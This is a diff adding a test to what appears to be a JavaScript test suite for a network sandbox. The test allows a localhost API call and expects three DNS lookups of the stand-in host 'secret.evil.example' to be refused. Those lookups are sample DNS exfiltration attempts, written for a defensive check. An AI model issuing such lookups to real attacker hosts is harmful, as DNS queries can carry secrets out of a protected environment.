@@ -88,6 +88,24 @@ it("lets the guard out, and nobody else", async () => {
   expect(api.received).toHaveLength(1);
 });
 
+it("lets the guard resolve a name, and nobody else", async () => {
+  const named = GUARD.replace("origins: [API]", "origins: [NAMED]").replace(
+    '"127.0.0.0/8"',
+    '"127.0.0.0/8", "::1/128"',
+  );
+  const printed = await run(`const NAMED = API.replace("127.0.0.1", "localhost");
+    ${named}
+    const dns = await import("node:dns");
+    const tried = async (work) => { try { await work(); return "resolved"; } catch (error) { return error.code; } };
+    console.log((await session.fetch(NAMED + "/items")).status);
+    console.log(await tried(() => new Promise((done, failed) => dns.lookup("secret.evil.example", (error) => error ? failed(error) : done()))));
+    console.log(await tried(() => dns.promises.lookup("secret.evil.example")));
+    console.log(await tried(() => dns.promises.resolve4("secret.evil.example")));
+    await guard.close();`);
+  expect(printed).toContain(`200\n${"LOCKDOWN_REFUSED\n".repeat(3)}`);
+  expect(api.received).toHaveLength(1);
+});
+
 it("lets the guard out through its proxy, and nobody else to it", async () => {
   const asked: string[] = [];
   const proxy = createProxy().on("connect", (request, socket) => {
